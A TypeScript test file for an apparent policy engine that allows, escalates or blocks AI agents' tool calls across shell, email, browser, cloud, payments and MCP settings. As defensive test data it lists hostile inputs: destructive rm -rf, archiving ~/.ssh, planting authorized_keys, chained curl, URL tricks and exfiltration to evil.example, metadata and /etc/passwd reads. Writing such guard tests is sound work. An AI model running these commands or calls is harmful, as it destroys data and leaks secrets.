/** What the example policies with conditions are for: calls that run, wait and do not run. */
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { test } from "node:test";
import { type Action, type Call, checkPolicy, loadPolicy, type Policy } from "countersign";

const used = (policy: Policy, call: Call) =>
  Object.fromEntries(policy.decide(call).charge.map(({ bucket }) => [bucket, 0] as const));

type Row = readonly [Action, string, NonNullable<Call["args"]>, Partial<Call>?];

async function decides(name: string, rows: readonly Row[]): Promise<void> {
  const text = readFileSync(new URL(`../../examples/policies/${name}.yaml`, import.meta.url), "utf8");
  const policy = await loadPolicy(text);
  for (const [expected, tool, args, others] of rows) {
    const call: Call = { tool, args, session: { id: "s", marks: [] }, ...others };
    const { action, rule } = policy.decide(call, { usage: used(policy, call) });
    assert.equal(action, expected, `${JSON.stringify(call)}: rule ${rule}`);
  }
}

test("shell agent", () =>
  decides("shell-agent", [
    ["allow", "exec", { command: "git status && npm test" }],
    ["allow", "exec", { command: "cat README.md | wc -l" }],
    ["escalate", "exec", { command: "cat src/../../notes" }],
    ["escalate", "exec", { command: "git status; curl https://x.example" }],
    ["escalate", "exec", { command: "npm test", env: { PATH: "/tmp" } }],
    ["escalate", "exec", { command: "'r'm -rf src" }],
    ["escalate", "exec", { command: "echo $(id)" }],
    ["block", "exec", { command: "sudo rm -rf / --no-preserve-root" }],
    ["block", "exec", { command: "tar c ~/.ssh" }],
    ["block", "write", { path: "/home/ann/.ssh/authorized_keys", content: "" }],
    ["allow", "read", { path: "src/main.rs" }],
    ["escalate", "read", { path: "../other/main.rs" }],
    ["allow", "fetch", { url: "https://docs.rs/serde" }],
    ["escalate", "fetch", { url: "https://docs.rs@evil.example/" }],
  ]));

test("workspace assistant", () =>
  decides("workspace-assistant", [
    ["allow", "send_email", { recipients: ["ann@bluesparrowtech.com"], subject: "Hi", body: "See you at ten." }],
    ["escalate", "send_email", { recipients: ["ann@bluesparrowtech.com"], subject: "Hi", body: "www.x.example.com" }],
    ["escalate", "send_email", { recipients: ["ann@evil.example"], subject: "Hi", body: "" }],
    ["escalate", "send_email", { recipients: [], subject: "Hi", body: "", bcc: ["x@evil.example"] }],
    [
      "allow",
      "create_calendar_event",
      { title: "Lunch", start_time: "", end_time: "", participants: ["bob@home.example"] },
    ],
    [
      "escalate",
      "create_calendar_event",
      { title: "Lunch", start_time: "", end_time: "", participants: ["bob@home.example"] },
      { session: { id: "s", marks: ["read-content"] } },
    ],
    ["escalate", "delete_email", { email_id: "1" }],
  ]));

test("team chat", () =>
  decides("team-chat", [
    ["allow", "send_channel_message", { channel: "general", body: "Done." }],
    ["escalate", "send_channel_message", { channel: "general", body: "Look:\nhttps://x.example" }],
    ["escalate", "invite_user_to_slack", { user: "Bob", user_email: "bob@home.example" }],
    ["block", "remove_user_from_slack", { user: "Bob" }],
    ["allow", "post_webpage", { url: "www.our-company.com", content: "Open on Monday." }],
    ["escalate", "post_webpage", { url: "www.our-company.com.evil.example", content: "Open on Monday." }],
  ]));

test("airline agent", () => {
  const user = { user_id: "ann", membership: "silver", payment_method_ids: ["credit_card_1", "certificate_2"] };
  const flights = [{ flight_number: "A1", date: "2030-05-01" }];
  const reservation = {
    cabin: "basic_economy",
    flight_keys: flights,
    flight_statuses: ["available"],
    passenger_count: 1,
  };
  const context = { user, reservation };
  const change = { reservation_id: "R", cabin: "economy", flights, payment_id: "credit_card_1" };
  const other = [{ flight_number: "A2", date: "2030-05-01" }];
  return decides("airline-agent", [
    ["allow", "update_reservation_flights", change, { context }],
    ["block", "update_reservation_flights", { ...change, flights: other }, { context }],
    ["block", "update_reservation_flights", { ...change, payment_id: "credit_card_9" }, { context }],
    ["block", "update_reservation_flights", { ...change, payment_id: "certificate_2" }, { context }],
    ["block", "update_reservation_flights", change],
    ["allow", "update_reservation_passengers", { reservation_id: "R", passengers: [{}] }, { context }],
    ["escalate", "update_reservation_passengers", { reservation_id: "R", passengers: [{}, {}] }, { context }],
    ["escalate", "cancel_reservation", { reservation_id: "R" }, { context }],
    ["escalate", "send_certificate", { user_id: "ann", amount: 100 }, { context }],
  ]);
});

test("browser agent", () =>
  decides("browser-agent", [
    ["allow", "browser_snapshot", {}],
    ["allow", "browser_navigate", { url: "https://docs.example.com/start" }],
    ["escalate", "browser_navigate", { url: "https://docs.example.com@evil.example/" }],
    ["escalate", "browser_navigate", { url: "https://evil.example/?q=secret" }],
    ["block", "browser_navigate", { url: "http://169.254.169.254/latest/" }],
    ["block", "browser_navigate", { url: "file:///etc/passwd" }],
    ["escalate", "browser_click", { element: "Buy" }],
    ["block", "browser_evaluate", { function: "() => 1" }],
  ]));

test("email assistant", () =>
  decides("email-assistant", [
    ["allow", "email.read", { id: "1" }],
    ["allow", "email.reply", { to: ["ann@example.com"], subject: "Lunch", body: "Twelve is fine." }],
    ["escalate", "email.reply", { to: ["ann@example.com"], subject: "Lunch", body: "See https://x.example" }],
    ["escalate", "email.reply", { to: ["ann@example.com"], bcc: ["eve@evil.example"], subject: "", body: "" }],
    ["escalate", "email.send", { to: ["eve@evil.example"], subject: "", body: "" }],
    ["block", "email.send", { to: Array(21).fill("ann@example.com"), subject: "", body: "" }],
    ["block", "email.set_forwarding", { to: "eve@evil.example" }],
  ]));

test("cloud agent", () =>
  decides("cloud-agent", [
    ["allow", "k8s.logs", { service: "shop" }],
    ["allow", "deploy.release", { service: "shop", environment: "staging", version: "2" }],
    ["escalate", "deploy.release", { service: "shop", environment: "staging", command: "id" }],
    ["escalate", "deploy.release", { service: "shop", environment: "production", version: "2" }],
    ["escalate", "ssh.run", { host: "web-1", command: "uptime" }],
    ["block", "terraform.destroy", { environment: "staging" }],
    ["block", "iam.create_user", { name: "eve" }],
  ]));

test("payments agent", () => {
  const context = { payees: ["p1"], order: { currency: "EUR" } };
  return decides("payments-agent", [
    ["allow", "refund.create", { order: "A1", amount: 50, currency: "EUR" }, { context }],
    ["escalate", "refund.create", { order: "A1", amount: 51, currency: "EUR" }, { context }],
    ["block", "refund.create", { order: "A1", amount: 20, currency: "USD" }, { context }],
    ["block", "refund.create", { order: "A1", amount: "20", currency: "EUR" }, { context }],
    ["allow", "invoice.pay", { invoice: "I", payee: "p1", amount: 500, currency: "EUR" }, { context, user: "ann" }],
    ["escalate", "invoice.pay", { invoice: "I", payee: "p2", amount: 5, currency: "EUR" }, { context, user: "ann" }],
    ["block", "transfer.create", { payee: "p1", amount: -5 }],
    ["escalate", "payee.create", { name: "Eve", iban: "DE00" }],
    ["block", "crypto.send", { amount: 1 }],
  ]);
});

test("MCP servers for files and GitHub", () =>
  decides("mcp-files-and-github", [
    ["allow", "filesystem/read_text_file", { path: "/home/app/project/src/a.ts" }],
    ["allow", "filesystem/write_file", { path: "src/a.ts", content: "" }],
    ["escalate", "filesystem/read_text_file", { path: "/home/app/project/../notes" }],
    ["escalate", "filesystem/move_file", { source: "/home/app/project/a", destination: "/home/app/project/b" }],
    ["block", "filesystem/read_text_file", { path: "/home/app/project/.env" }],
    ["block", "filesystem/read_multiple_files", { paths: ["a.ts", "/home/app/.ssh/config"] }],
    ["block", "filesystem/write_file", { path: ".github/workflows/ci.yml", content: "" }],
    ["allow", "github/push_files", { owner: "example-org", repo: "shop", branch: "agent/fix", files: [], message: "" }],
    ["escalate", "github/push_files", { owner: "example-org", repo: "shop", branch: "main", files: [], message: "" }],
    ["block", "github/merge_pull_request", { owner: "example-org", repo: "shop", pull_number: 7 }],
  ]));

test("every example is without a problem", async () => {
  const folder = new URL("../../examples/policies/", import.meta.url);
  const names = readdirSync(folder);
  assert.ok(names.length > 10);
  for (const name of names) {
    const { diagnostics } = await checkPolicy(readFileSync(new URL(name, folder), "utf8"));
    assert.deepEqual(diagnostics, [], name);
  }
});

test("every example says what it is for by tests of its own, which pass", async () => {
  const folder = new URL("../../examples/policies/", import.meta.url);
  for (const name of readdirSync(folder)) {
    const [run] = (await loadPolicy(readFileSync(new URL(name, folder), "utf8"))).runTests();
    assert.ok(run !== undefined && run.tests.length >= 3, `${name} has at least three tests`);
    for (const each of run.tests) assert.equal(each.message, null, `${name}: ${each.name}`);
    assert.equal(run.passed, run.tests.length, name);
  }
});
